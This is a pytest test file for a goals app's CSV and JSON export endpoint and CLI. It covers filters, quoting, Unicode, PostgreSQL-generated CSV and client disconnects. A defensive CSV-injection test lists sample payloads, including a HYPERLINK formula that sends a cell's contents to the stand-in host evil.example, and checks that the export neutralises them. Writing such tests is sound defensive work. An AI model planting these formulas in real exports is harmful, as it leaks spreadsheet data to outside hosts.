"""Export (CSV and JSON, endpoint and CLI) against the filtered list."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from app.common.csvsafe import safe_cell
from app.goals.export import FIELDS

TRICKY = 'Сказать "привет", а потом\nновая строка; 100%'


@pytest.fixture
def data(api, g, team):
    g.goal(team.owner, team.category["id"], TRICKY, priority="high", due_date="2030-03-01", description='a,b,"c"')
    g.goal(team.writer, team.category["id"], "Archived one", status="archived")
    return team


def _csv(resp) -> list[dict]:
    return list(csv.DictReader(io.StringIO(resp.get_data(as_text=True), newline="")))


def _comparable(goal: dict, category_title: str) -> dict:
    return {key: "" if value is None else str(value) for key, value in goal.items()} | {
        "category_title": category_title
    }


@pytest.mark.parametrize(
    "query",
    [
        "",
        "priority=high",
        "status=archived",
        "search=привет",
        "ordering=title",
        "status=todo&status=archived&ordering=-created_at",
    ],
)
def test_csv_matches_the_filtered_list(api, data, query):
    listed = api.get(f"/api/v1/goals?page_size=100&{query}", data.reader).json
    resp = api.get(f"/api/v1/goals/export?format=csv&{query}", data.reader)
    assert resp.status_code == 200
    assert resp.headers["Content-Disposition"] == "attachment; filename=goals.csv"
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.get_data(as_text=True).splitlines()[0] == ",".join(FIELDS)
    assert _csv(resp) == [_comparable(goal, "Work") for goal in listed]


@pytest.mark.parametrize("query", ["", "priority=high", "search=ПРИВЕТ", "status=archived"])
def test_json_matches_the_filtered_list(api, data, query):
    listed = api.get(f"/api/v1/goals?page_size=100&{query}", data.reader).json
    resp = api.get(f"/api/v1/goals/export?format=json&{query}", data.reader)
    assert resp.status_code == 200
    assert resp.headers["Content-Disposition"] == "attachment; filename=goals.json"
    assert json.loads(resp.get_data(as_text=True)) == [goal | {"category_title": "Work"} for goal in listed]


def test_cyrillic_and_quoting_survive(api, data):
    rows = _csv(api.get("/api/v1/goals/export?format=csv&priority=high", data.owner))
    assert rows[0]["title"] == TRICKY and rows[0]["description"] == 'a,b,"c"'
    assert "привет".encode() in api.get("/api/v1/goals/export?format=json", data.owner).get_data()  # raw UTF-8


def test_export_rejects_bad_filters_and_formats(api, user):
    for query in ("format=xml", "ordering=id", "status=nope"):
        resp = api.get(f"/api/v1/goals/export?{query}", user)
        assert resp.status_code == 422 and resp.json["code"] == 422
    assert api.get("/api/v1/goals/export").status_code == 401


def test_empty_exports_are_well_formed(api, user):
    assert api.get("/api/v1/goals/export?format=json", user).get_data(as_text=True).split() == ["[", "]"]
    assert _csv(api.get("/api/v1/goals/export?format=csv", user)) == []


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_cli_writes_the_same_as_the_endpoint(app, api, data, tmp_path, fmt):
    endpoint = api.get(f"/api/v1/goals/export?format={fmt}&status=todo&status=archived", data.reader)
    out = tmp_path / f"goals.{fmt}"
    runner = app.test_cli_runner()
    result = runner.invoke(
        args=[
            "goals",
            "export",
            "--user",
            "ROMAN",
            "--format",
            fmt,
            "--output",
            str(out),
            "--status",
            "todo",
            "--status",
            "archived",
        ]
    )
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == endpoint.get_data()
    stdout = runner.invoke(
        args=["goals", "export", "--user", "roman", "--format", fmt, "--status", "todo", "--status", "archived"]
    )
    assert stdout.exit_code == 0 and stdout.stdout_bytes == endpoint.get_data()


def test_cli_refuses_unknown_users_and_bad_filters(app):
    runner = app.test_cli_runner()
    assert runner.invoke(args=["goals", "export", "--user", "ghost"]).exit_code != 0
    bad = runner.invoke(args=["goals", "export", "--user", "ghost", "--format", "xml"])
    assert bad.exit_code == 2


def test_cli_only_exports_what_the_user_sees(app, api, data, tmp_path):
    api.signup_and_login("outsider")
    result = app.test_cli_runner().invoke(args=["goals", "export", "--user", "outsider", "--format", "json"])
    assert result.exit_code == 0 and json.loads(result.stdout) == []


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(api, g, team):
    """OWASP CSV Injection: a participant's goal title must not run in the exporter's spreadsheet."""
    for text in FORMULAS:
        g.goal(team.writer, team.category["id"], text, description=text)
    rows = [r for r in _csv(api.get("/api/v1/goals/export?format=csv", team.reader)) if r["title"] != "Ship it"]
    assert sorted(r["title"] for r in rows) == sorted("'" + text for text in FORMULAS)
    assert sorted(r["description"] for r in rows) == sorted("'" + text for text in FORMULAS)
    as_json = json.loads(api.get("/api/v1/goals/export?format=json", team.reader).get_data(as_text=True))
    assert sorted(goal["title"] for goal in as_json if goal["title"] != "Ship it") == sorted(FORMULAS)  # unchanged


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised_and_plain_text_is_not(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("plain " + text) == "plain " + text
    assert safe_cell(-3) == -3 and safe_cell(None) is None


# Every kind of cell PostgreSQL renders for the CSV export (app/common/csvsafe.py), against Python's csv module.
AWKWARD = [
    "plain",
    "comma, inside",
    'a "quoted" word',
    "line\nbreak",
    "carriage\rreturn",
    "windows\r\nline",
    "tab\there",
    "back\\slash and \\n literally",
    "  spaces around  ",
    "=1+1",
    "+1",
    "-1",
    "@A1",
    "\t=1",
    "\r=1",
    "Сказать «привет» 🎯",
]


def _reference_csv(goals: list[dict]) -> str:
    """What the export wrote when Python built it: safe_cell on free text, isoformat on datetimes, csv.writer."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(FIELDS)
    for goal in goals:
        row = []
        for name in FIELDS:
            value = goal[name]
            if name in ("title", "description", "category_title"):
                value = safe_cell(value)
            elif name in ("created_at", "updated_at"):
                value = datetime.fromisoformat(value).isoformat()
            row.append(value)
        writer.writerow(row)
    return out.getvalue()


def test_csv_written_by_postgresql_is_what_the_csv_module_writes(api, g, team):
    from sqlalchemy import update

    from app.extensions import db
    from app.goals.models import Goal

    category = g.category(team.owner, team.board["id"], '=Category, "odd"\n')
    ids = []
    for index, text in enumerate(AWKWARD):
        goal = g.goal(
            team.owner,
            category["id"] if index % 2 else team.category["id"],
            text,
            description=AWKWARD[-1 - index] if index % 3 else "",
            priority=("low", "medium", "high", "critical")[index % 4],
            due_date=None if index % 5 == 0 else f"20{10 + index}-0{1 + index % 9}-1{index % 10}",
            start_date=None if index % 2 else "2009-02-28",
        )
        ids.append(goal["id"])
    # Whole seconds print without a fraction, trailing zeros of a fraction are kept (isoformat's rules).
    db.session.execute(
        update(Goal).where(Goal.id == ids[0]).values(created_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC))
    )
    db.session.execute(
        update(Goal).where(Goal.id == ids[1]).values(updated_at=datetime(999, 1, 2, 3, 4, 5, 120000, tzinfo=UTC))
    )
    # The API refuses control characters; rows written before that rule (or by hand) may hold them.
    controls = "controls \b \f \v \x01 \x1f end"
    db.session.execute(update(Goal).where(Goal.id == ids[2]).values(description=controls))
    db.session.commit()
    as_json = json.loads(api.get("/api/v1/goals/export?format=json&ordering=title", team.reader).get_data())
    assert len(as_json) == len(AWKWARD) + 1 and any(goal["description"] == "" for goal in as_json)
    assert any(goal["description"] == controls for goal in as_json)
    written = api.get("/api/v1/goals/export?format=csv&ordering=title", team.reader).get_data(as_text=True)
    assert written == _reference_csv(as_json)
    assert "2026-01-02T03:04:05+00:00" in written and "0999-01-02T03:04:05.120000+00:00" in written


def test_a_csv_export_the_client_leaves_early_ends_its_copy(api, g, team, monkeypatch):
    """A client that hangs up mid-export: the COPY is ended on the connection, the next request is served."""
    from sqlalchemy import text

    from app.extensions import db
    from app.goals import export

    monkeypatch.setattr(export, "BATCH", 2)
    for index in range(6):
        g.goal(team.owner, team.category["id"], f"Goal {index}")
    whole = api.get("/api/v1/goals/export?format=csv", team.reader).get_data(as_text=True)
    assert len(whole.splitlines()) == 8  # the header, "Ship it" and six more
    resp = api.get("/api/v1/goals/export?format=csv", team.reader, buffered=False)
    chunks = resp.response  # the body as the app yields it, nothing read yet
    assert next(chunks).startswith(b"id,title,") and next(chunks).count(b"\r\n") == 2
    resp.close()
    assert db.session.execute(text("SELECT 1")).scalar() == 1
    assert api.get("/api/v1/goals/export?format=csv", team.reader).get_data(as_text=True) == whole
    assert api.get("/api/v1/goals?page_size=100", team.reader).json[0]["title"]
